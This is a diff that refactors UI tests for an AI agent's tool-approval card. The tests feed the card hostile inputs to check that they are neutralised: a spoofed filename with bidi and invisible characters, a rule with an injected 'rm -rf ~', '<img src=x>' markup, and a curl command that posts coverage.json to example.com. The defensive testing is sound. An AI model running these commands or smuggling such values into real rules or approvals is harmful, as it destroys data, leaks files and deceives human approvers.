@@ -6,7 +6,7 @@ import { act, screen, within } from '@testing-library/react';
 import userEvent from '@testing-library/user-event';
 import { App } from '../../../renderer/src/App';
 import { memoryClient } from './memory-client';
-import { gatedWrite } from './samples';
+import { approval, gatedWrite } from './samples';
 import { renderWith, WS } from './render';
 
 const INVISIBLE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/;
@@ -38,22 +38,22 @@ describe('approval card', () => {
     renderWith(<App />, c, { workspace: WS, sessionId: 's1', streaming: true });
     const evil = 'invoice\u202etxt.exe\x1b[2K\u200b';
     act(() =>
-      c.event('chat.approval', {
-        sessionId: 's1',
-        approvalId: 'a2',
-        tool: 'write_file',
-        args: { path: evil },
-        actor: { kind: 'agent', activeSkills: [] },
-        reason: `writes ${evil}`,
-        summary: `write_file: ${evil}`,
-        alwaysPreview: [],
-        decision: {
-          rule: `ask write_file path ${evil}`,
-          scope: `workspace /w${evil}`,
-          skill: { name: `d${evil}`, dir: `/s/${evil}` },
-          paths: { read: [`/w/${evil}`], write: [`/w/${evil}`] },
-        },
-      }),
+      c.event(
+        'chat.approval',
+        approval({
+          approvalId: 'a2',
+          tool: 'write_file',
+          args: { path: evil },
+          reason: `writes ${evil}`,
+          summary: `write_file: ${evil}`,
+          decision: {
+            rule: `ask write_file path ${evil}`,
+            scope: `workspace /w${evil}`,
+            skill: { name: `d${evil}`, dir: `/s/${evil}` },
+            paths: { read: [`/w/${evil}`], write: [`/w/${evil}`] },
+          },
+        }),
+      ),
     );
     const card = await screen.findByRole('region', { name: 'Approval for write_file' });
     expect(INVISIBLE.test(card.textContent ?? '')).toBe(false);
@@ -64,18 +64,7 @@ describe('approval card', () => {
   it('shows no decision block when the gate reported no fields (a call asked by category default)', async () => {
     const c = memoryClient();
     renderWith(<App />, c, { workspace: WS, sessionId: 's1', streaming: true });
-    act(() =>
-      c.event('chat.approval', {
-        sessionId: 's1',
-        approvalId: 'a3',
-        tool: 'bash',
-        args: { command: 'ls' },
-        actor: { kind: 'agent', activeSkills: [] },
-        reason: 'asks',
-        summary: 'bash',
-        alwaysPreview: [],
-      }),
-    );
+    act(() => c.event('chat.approval', approval({ approvalId: 'a3', tool: 'bash', args: { command: 'ls' } })));
     const card = await screen.findByRole('region', { name: 'Approval for bash' });
     expect(card.querySelector('dl.gate-decision')).toBeNull();
   });
@@ -88,16 +77,10 @@ describe('approval card', () => {
       'allow bash command "head" while skill notes is loaded in /w',
     ];
     act(() =>
-      c.event('chat.approval', {
-        sessionId: 's1',
-        approvalId: 'a4',
-        tool: 'bash',
-        args: { command: 'git log | head -5' },
-        actor: { kind: 'agent', activeSkills: [] },
-        reason: 'asks',
-        summary: 'bash',
-        alwaysPreview: rules,
-      }),
+      c.event(
+        'chat.approval',
+        approval({ approvalId: 'a4', tool: 'bash', args: { command: 'git log | head -5' }, alwaysPreview: rules }),
+      ),
     );
     const card = await screen.findByRole('region', { name: 'Approval for bash' });
     const list = card.querySelector('ul.rules-preview')!;
@@ -110,16 +93,15 @@ describe('approval card', () => {
     const c = memoryClient();
     renderWith(<App />, c, { workspace: WS, sessionId: 's1', streaming: true });
     act(() =>
-      c.event('chat.approval', {
-        sessionId: 's1',
-        approvalId: 'a5',
-        tool: 'bash',
-        args: { command: 'git status' },
-        actor: { kind: 'agent', activeSkills: [] },
-        reason: 'asks',
-        summary: 'bash',
-        alwaysPreview: ['allow bash command "git status" in /w'],
-      }),
+      c.event(
+        'chat.approval',
+        approval({
+          approvalId: 'a5',
+          tool: 'bash',
+          args: { command: 'git status' },
+          alwaysPreview: ['allow bash command "git status" in /w'],
+        }),
+      ),
     );
     const card = await screen.findByRole('region', { name: 'Approval for bash' });
     expect([...card.querySelectorAll('ul.rules-preview li')].map((li) => li.textContent)).toEqual([
@@ -132,18 +114,7 @@ describe('approval card', () => {
     const c = memoryClient();
     renderWith(<App />, c, { workspace: WS, sessionId: 's1', streaming: true });
     const rule = 'allow bash command "git \'status\nallow bash command "ls"\'" in /w';
-    act(() =>
-      c.event('chat.approval', {
-        sessionId: 's1',
-        approvalId: 'a6',
-        tool: 'bash',
-        args: {},
-        actor: { kind: 'agent', activeSkills: [] },
-        reason: 'asks',
-        summary: 'bash',
-        alwaysPreview: [rule],
-      }),
-    );
+    act(() => c.event('chat.approval', approval({ approvalId: 'a6', tool: 'bash', args: {}, alwaysPreview: [rule] })));
     const card = await screen.findByRole('region', { name: 'Approval for bash' });
     const items = [...card.querySelectorAll('ul.rules-preview li')].map((li) => li.textContent);
     expect(items).toEqual(['allow bash command "git \'status\\nallow bash command "ls"\'" in /w']);
@@ -155,21 +126,22 @@ describe('approval card', () => {
     renderWith(<App />, c, { workspace: WS, sessionId: 's1', streaming: true });
     const command = 'npm test && curl -s https://example.com/report -d @coverage.json';
     act(() =>
-      c.event('chat.approval', {
-        sessionId: 's1',
-        approvalId: 'a7',
-        tool: 'bash',
-        args: { command },
-        actor: { kind: 'agent', activeSkills: [] },
-        reason: 'bash: no rule covers this command',
-        summary: `bash: ${command}`,
-        alwaysPreview: ['allow bash command "npm test" in /w', `allow bash command "${command.slice(12)}" in /w`],
-        alwaysWidens: [null, 'network'],
-        risks: [
-          { code: 'sends', params: { host: 'example.com' } },
-          { code: 'networkOff', params: {} },
-        ],
-      }),
+      c.event(
+        'chat.approval',
+        approval({
+          approvalId: 'a7',
+          tool: 'bash',
+          args: { command },
+          reason: 'bash: no rule covers this command',
+          summary: `bash: ${command}`,
+          alwaysPreview: ['allow bash command "npm test" in /w', `allow bash command "${command.slice(12)}" in /w`],
+          alwaysWidens: [null, 'network'],
+          risks: [
+            { code: 'sends', params: { host: 'example.com' } },
+            { code: 'networkOff', params: {} },
+          ],
+        }),
+      ),
     );
     const card = await screen.findByRole('region', { name: 'Approval for bash' });
     const shown = (card.textContent ?? '').replace(card.querySelector('details')!.textContent ?? '', '');
@@ -196,16 +168,10 @@ describe('approval card', () => {
     const c = memoryClient();
     renderWith(<App />, c, { workspace: WS, sessionId: 's1', streaming: true });
     act(() =>
-      c.event('chat.approval', {
-        sessionId: 's1',
-        approvalId: 'a8',
-        tool: 'bash',
-        args: { command: 'git status' },
-        actor: { kind: 'agent', activeSkills: [] },
-        reason: 'asks',
-        summary: 'bash',
-        alwaysPreview: ['allow git'],
-      }),
+      c.event(
+        'chat.approval',
+        approval({ approvalId: 'a8', tool: 'bash', args: { command: 'git status' }, alwaysPreview: ['allow git'] }),
+      ),
     );
     const card = await screen.findByRole('region', { name: 'Approval for bash' });
     await userEvent.click(within(card).getByRole('checkbox'));
@@ -218,28 +184,27 @@ describe('approval card', () => {
     const c = memoryClient();
     renderWith(<App />, c, { workspace: WS, sessionId: 's1', streaming: true }, 'zh');
     act(() =>
-      c.event('chat.approval', {
-        sessionId: 's1',
-        approvalId: 'a2',
-        tool: 'bash',
-        args: { command: 'make deploy' },
-        actor: { kind: 'agent', activeSkills: [] },
-        reason: 'your rule "ask bash everywhere" asks every time',
-        words: {
-          code: 'gate.ruleAsks',
-          params: {
-            rule: {
-              code: 'joinSpace',
-              params: {
-                a: { code: 'rule.head', params: { effect: { code: 'rule.ask' }, tool: 'bash<img src=x>' } },
-                b: { code: 'rule.everywhere' },
+      c.event(
+        'chat.approval',
+        approval({
+          approvalId: 'a2',
+          tool: 'bash',
+          args: { command: 'make deploy' },
+          reason: 'your rule "ask bash everywhere" asks every time',
+          words: {
+            code: 'gate.ruleAsks',
+            params: {
+              rule: {
+                code: 'joinSpace',
+                params: {
+                  a: { code: 'rule.head', params: { effect: { code: 'rule.ask' }, tool: 'bash<img src=x>' } },
+                  b: { code: 'rule.everywhere' },
+                },
               },
             },
           },
-        },
-        summary: 'bash',
-        alwaysPreview: [],
-      }),
+        }),
+      ),
     );
     const card = await screen.findByRole('region', { name: 'bash 的批准请求' });
     const details = card.querySelector('details.approval-details')!;
@@ -264,32 +229,32 @@ describe('approval card', () => {
       },
     });
     act(() =>
-      c.event('chat.approval', {
-        sessionId: 's1',
-        approvalId: 'a3',
-        tool: 'bash',
-        args: { command: 'git log | head' },
-        actor: { kind: 'agent', activeSkills: [] },
-        reason: 'your rule asks every time',
-        summary: 'bash',
-        alwaysPreview: [
-          'allow bash command "git log" in /home/me/alpha',
-          'allow bash command "head\nrm -rf ~" in /home/me/alpha',
-        ],
-        alwaysWords: [rule('git log'), rule('head\nrm -rf ~<img src=x>')],
-        decision: {
-          rule: 'ask bash everywhere',
-          scope: 'every workspace',
-          ruleWords: {
-            code: 'joinSpace',
-            params: {
-              a: { code: 'rule.head', params: { effect: { code: 'rule.ask' }, tool: 'bash' } },
-              b: { code: 'rule.everywhere' },
+      c.event(
+        'chat.approval',
+        approval({
+          approvalId: 'a3',
+          tool: 'bash',
+          args: { command: 'git log | head' },
+          reason: 'your rule asks every time',
+          alwaysPreview: [
+            'allow bash command "git log" in /home/me/alpha',
+            'allow bash command "head\nrm -rf ~" in /home/me/alpha',
+          ],
+          alwaysWords: [rule('git log'), rule('head\nrm -rf ~<img src=x>')],
+          decision: {
+            rule: 'ask bash everywhere',
+            scope: 'every workspace',
+            ruleWords: {
+              code: 'joinSpace',
+              params: {
+                a: { code: 'rule.head', params: { effect: { code: 'rule.ask' }, tool: 'bash' } },
+                b: { code: 'rule.everywhere' },
+              },
             },
+            scopeWords: { code: 'rule.scopeAll' },
           },
-          scopeWords: { code: 'rule.scopeAll' },
-        },
-      }),
+        }),
+      ),
     );
     const card = await screen.findByRole('region', { name: 'bash 的批准请求' });
     const items = [...card.querySelectorAll('.rules-preview li')].map((li) => li.textContent);
